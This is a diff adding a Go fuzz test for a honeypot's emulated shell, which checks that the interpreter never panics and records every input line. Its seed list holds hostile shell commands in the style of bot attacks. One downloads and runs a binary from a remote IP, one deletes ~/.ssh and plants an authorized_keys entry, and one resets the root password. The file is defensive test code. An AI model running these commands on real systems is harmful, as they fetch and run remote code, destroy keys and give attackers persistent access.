@@ -1,0 +1,48 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// FuzzShellRun drives the full interpreter with fuzzer-generated input.
+// The honeypot's contract: never panic, always record the line.
+func FuzzShellRun(f *testing.F) {
+	seeds := []string{
+		`echo -e "\x6F\x6B"`,
+		`cd /tmp; wget http://1.2.3.4/x; chmod 777 x; sh x; rm -rf x`,
+		`cd ~ && rm -rf .ssh && mkdir .ssh && echo "key">>.ssh/authorized_keys`,
+		`cat /proc/cpuinfo | grep name | wc -l`,
+		`/bin/busybox ABCDE`,
+		`echo "root:pass"|chpasswd|bash`,
+		`ls -lh $(which ls)`,
+		"a && b || c; d | e",
+		"printf '\\x7f\\x45\\x4c\\x46' > /tmp/e; file /tmp/e",
+		"$((((", "`\\", ">>>", "2>&1|",
+	}
+	for _, s := range seeds {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		sh := New("svr04", func(string) ([]byte, error) { return []byte("x"), nil })
+		sh.Run(line)
+		if strings.TrimSpace(line) != "" && len(sh.Commands()) != 1 {
+			t.Fatalf("input %q recorded %d commands", line, len(sh.Commands()))
+		}
+	})
+}
+
+// FuzzTokenizers covers the lexer layers in isolation.
+func FuzzTokenizers(f *testing.F) {
+	f.Add(`echo "a b" 'c' \d>>out`)
+	f.Add("a;b&&c||d|e&f\ng")
+	f.Fuzz(func(t *testing.T, text string) {
+		for _, seg := range splitSegments(text) {
+			if strings.TrimSpace(seg.text) == "" {
+				t.Fatal("empty segment emitted")
+			}
+			splitWords(seg.text)
+		}
+		decodeEchoEscapes(text)
+	})
+}
